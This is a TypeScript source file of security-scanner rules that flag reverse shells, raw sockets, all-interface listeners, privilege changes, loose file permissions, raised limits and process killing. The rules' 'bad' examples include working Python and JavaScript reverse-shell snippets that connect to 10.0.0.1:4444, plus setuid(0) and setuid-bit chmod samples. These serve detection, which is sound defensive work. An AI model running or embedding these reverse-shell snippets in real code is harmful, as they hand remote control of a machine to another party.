import { origin } from '../model.ts'
import type { Rule } from '../rule.ts'
import { comesFrom, textOf } from '../values.ts'
import { code, everything, given, isFixed, names, numberIn, python, says, scripts } from './ask.ts'

/** Rules about connections, rights and processes. */
export const systemRules: readonly Rule[] = [
  {
    id: 'system/reverse-shell',
    languages: code,
    type: 'network',
    severity: 'critical',
    cwe: 'CWE-506',
    description: 'Connects a shell to the network, so that somebody elsewhere controls this machine.',
    recommendation: 'Remove it.',
    implies: ['connect', 'run', 'privilege'],
    match: {
      on: 'calls',
      about: name =>
        /^(socket\.(socket\(\)\.(connect|bind|accept)|create_connection)|net\.(connect|createConnection|createServer|Socket)|tls\.connect|Deno\.connect)/.test(
          name,
        ),
      find: ([net], { program }) => {
        if (net === undefined) return []
        const shell = program.calls.find(
          call =>
            /^(os\.dup2|pty\.spawn|os\.exec|(?:.*\.)?pipe$)/.test(call.name) ||
            (/^(subprocess|child_process|os\.(system|popen)|asyncio\.create_subprocess)/.test(call.name) &&
              call.args.some(
                value =>
                  says(value, /(^|\/)(ba|z|da|k|c)?sh\b|cmd(\.exe)?|powershell/) ||
                  (value.kind === 'list' &&
                    value.items.some(item => says(item, /(^|\/)(ba|z|da|k|c)?sh$|cmd(\.exe)?|powershell/))) ||
                  comesFrom(value, origin.download),
              )),
        )
        const opens =
          shell &&
          (shell.name !== 'os.dup2' && !shell.name.endsWith('pipe')
            ? true
            : program.calls.some(call => /^(subprocess|child_process|pty|os\.(system|exec|popen))/.test(call.name)))
        return shell && opens ? [{ at: net }] : []
      },
    },
    examples: {
      bad: [
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
        {
          language: 'javascript',
          code: "const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4444, '10.0.0.1', () => { c.pipe(sh.stdin) })",
        },
      ],
      good: ['import socket\nprint(socket.gethostname())'],
    },
  },
  {
    id: 'system/socket',
    languages: python,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-923',
    description: 'Opens a raw connection or listens for one.',
    recommendation: 'Use an HTTP client for data; a notebook does not need to listen.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: [
        'socket.socket',
        'socket.create_connection',
        'socket.create_server',
        'socketserver.TCPServer',
        'socketserver.UDPServer',
        'socketserver.ThreadingTCPServer',
        'http.server.HTTPServer',
        'http.server.ThreadingHTTPServer',
        'BaseHTTPServer.HTTPServer',
        'asyncio.start_server',
        'asyncio.open_connection',
        'SimpleHTTPServer.*',
        'wsgiref.simple_server.make_server',
        'xmlrpc.server.SimpleXMLRPCServer',
      ],
      when: call =>
        everything(call).some(value => names(value, /SOCK_RAW|AF_PACKET|IPPROTO_ICMP/))
          ? { severity: 'high', message: 'Reads packets that are not its own.' }
          : true,
    },
    examples: { bad: ['import socket\ns = socket.socket()'], good: ['import socket\nsocket.gethostname()'] },
  },
  {
    id: 'system/listen',
    languages: scripts,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-923',
    description: 'Opens a raw connection or listens for one.',
    recommendation: 'Use `fetch` for data; a notebook does not need to listen.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: [
        'net.connect',
        'net.createConnection',
        'net.createServer',
        'net.Socket',
        'dgram.createSocket',
        'tls.connect',
        'Deno.listen',
        'Deno.connect',
        'http.createServer',
        'https.createServer',
        'http2.createServer',
        'Deno.serve',
      ],
      when: call =>
        /createServer|serve$/.test(call.name) && call.name !== 'net.createServer' ? { severity: 'low' } : true,
    },
    examples: { bad: ["require('net').createServer(() => {})"], good: ['const connect = 1'] },
  },
  {
    id: 'system/all-interfaces',
    languages: code,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-605',
    description: 'Listens on every network interface.',
    recommendation: 'Listen on 127.0.0.1.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: [
        '*.bind',
        '*.run',
        '*.listen',
        'socketserver.TCPServer',
        'http.server.HTTPServer',
        'http.server.ThreadingHTTPServer',
        'http.server.test',
        'pyftpdlib.servers.FTPServer',
        'xmlrpc.server.SimpleXMLRPCServer',
        'asyncio.start_server',
        '*.run_app',
        'uvicorn.run',
        'waitress.serve',
        'aiohttp.web.run_app',
        'wsgiref.simple_server.make_server',
        'gevent.pywsgi.WSGIServer',
        '~run',
        'app.run',
      ],
      when: call => {
        const first = call.args[0]
        const hosts = [
          ...everything(call),
          ...(first?.kind === 'list' ? first.items : []),
          ...(first?.kind === 'map' ? first.entries.values() : []),
        ]
        return (
          hosts.some(value => textOf(value) === '0.0.0.0' || textOf(value) === '::') ||
          (call.name.endsWith('.bind') && first?.kind === 'list' && textOf(first.items[0]) === '')
        )
      },
    },
    examples: {
      bad: ["app.run(host='0.0.0.0')", "sock.bind(('', 80))"],
      good: ["app.run(host='127.0.0.1')", { language: 'javascript', code: 'fn.bind(this)' }],
    },
  },
  {
    id: 'system/privilege',
    languages: code,
    type: 'privilege',
    severity: 'high',
    cwe: 'CWE-250',
    description: 'Changes the user or the rights that the program runs with.',
    recommendation: 'Run with the rights that the sandbox gives.',
    implies: ['privilege'],
    match: {
      on: 'call',
      names: [
        'os.setuid',
        'os.setgid',
        'os.seteuid',
        'os.setegid',
        'os.setreuid',
        'os.setregid',
        'os.setresuid',
        'os.setresgid',
        'os.setgroups',
        'os.initgroups',
        'os.chroot',
        'process.setuid',
        'process.setgid',
        'process.seteuid',
        'process.setegid',
        'process.setgroups',
        'os.setcap',
        'prctl.cap_permitted',
        'ctypes.windll.shell32.ShellExecuteW',
        'resource.prlimit',
        'os.setpriority',
      ],
      when: call => (call.name === 'os.setpriority' ? { severity: 'medium' } : true),
    },
    examples: {
      bad: ['import os\nos.setuid(0)', { language: 'javascript', code: 'process.setuid(0)' }],
      good: ['import os\nos.getuid()'],
    },
  },
  {
    id: 'system/permissions',
    languages: code,
    type: 'privilege',
    severity: 'medium',
    cwe: 'CWE-732',
    description: 'Opens files to everybody, or makes a program run with other rights.',
    recommendation: 'Give rights to the owner only.',
    implies: ['write', 'privilege'],
    match: {
      on: 'call',
      names: [
        'os.chmod',
        'os.fchmod',
        'os.umask',
        '*.chmod',
        'fs.chmod',
        'fs.chmodSync',
        'fs.promises.chmod',
        'Deno.chmod',
        'os.chown',
        'os.lchown',
        'shutil.chown',
        'fs.chown',
        'fs.chownSync',
        'os.mkdir',
        'os.makedirs',
        'fs.mkdir',
        'fs.mkdirSync',
        'process.umask',
      ],
      when: call => {
        if (/chown$/.test(call.name)) return true
        if (/umask$/.test(call.name)) return numberIn(call.args[0]) === 0
        const value = given(call, call.receiver !== null && !/^(os|fs|Deno)\./.test(call.name) ? 0 : 1, 'mode')
        const mode = numberIn(value) ?? (textOf(value) === null ? null : Number.parseInt(textOf(value) ?? '', 8))
        if (/mkdir|makedirs/.test(call.name)) return mode !== null && (mode & 0o002) !== 0
        if (mode === null) {
          if (names(value, /S_I(RWXO|WOTH|SUID|SGID)/)) return { severity: 'high' }
          return value !== undefined && !isFixed(value)
            ? { severity: 'medium', message: 'Sets rights that are not known before the run.' }
            : false
        }
        if (mode & 0o6000) return { severity: 'critical', message: 'Makes a program run with the rights of its owner.' }
        return (mode & 0o022) !== 0 || (mode & 0o111) !== 0 ? { severity: 'medium' } : { severity: 'low' }
      },
    },
    examples: {
      bad: [
        "import os\nos.chmod('a', 0o777)",
        { language: 'javascript', code: "require('fs').chmodSync('a', 0o4755)" },
      ],
      good: ["import os\nos.chmod('a', 0o600)"],
    },
  },
  {
    id: 'system/limits',
    languages: python,
    type: 'resource-exhaustion',
    severity: 'medium',
    cwe: 'CWE-770',
    description: 'Raises the limits or the priority of the program.',
    recommendation: 'Leave the limits as they are.',
    implies: ['resources'],
    match: {
      on: 'call',
      names: ['resource.setrlimit', 'os.sched_setscheduler', 'os.nice'],
      when: call => {
        if (call.name === 'os.nice') return (numberIn(call.args[0]) ?? 0) < 0
        if (call.name === 'os.sched_setscheduler') return names(call.args[1], /SCHED_(FIFO|RR)$/)
        const limits = call.args[1]
        return [limits, ...(limits?.kind === 'list' ? limits.items : [])].some(
          value => names(value, /RLIM_INFINITY$/) || numberIn(value) === -1,
        )
      },
    },
    examples: {
      bad: [
        'import resource\nresource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))',
        'import os\nos.nice(-20)',
      ],
      good: ['import resource\nresource.setrlimit(resource.RLIMIT_AS, (2**30, 2**30))', 'import os\nos.nice(10)'],
    },
  },
  {
    id: 'system/kill',
    languages: code,
    type: 'process',
    severity: 'medium',
    cwe: 'CWE-400',
    description: 'Ends other processes.',
    recommendation: 'Leave processes alone that the program did not start.',
    implies: ['run'],
    match: {
      on: 'call',
      names: [
        'os.kill',
        'os.killpg',
        'Deno.kill',
        'psutil.Process().kill',
        'psutil.Process().terminate',
        'psutil.Process().suspend',
        '*.kill',
        '*.terminate',
        'process.kill',
        'signal.pthread_kill',
        'tree-kill',
      ],
      when: (call, { program }) => {
        if (/^(os|psutil|process|signal|tree-kill)/.test(call.name))
          return names(call.args[0], /^process\.pid$|^os\.getpid\(\)$/)
            ? { severity: 'low' }
            : { severity: numberIn(call.args[0]) === 1 || numberIn(call.args[0]) === -1 ? 'critical' : 'high' }
        return program.imports.some(({ module }) => module === 'psutil') &&
          !/^(subprocess|multiprocessing)/.test(call.name)
          ? { severity: 'high' }
          : false
      },
    },
    examples: {
      bad: ['import os\nos.kill(pid, 9)', 'import psutil\nfor p in psutil.process_iter():\n    p.kill()'],
      good: ['import subprocess\np = subprocess.Popen(["ls"])\np.kill()'],
    },
  },
]
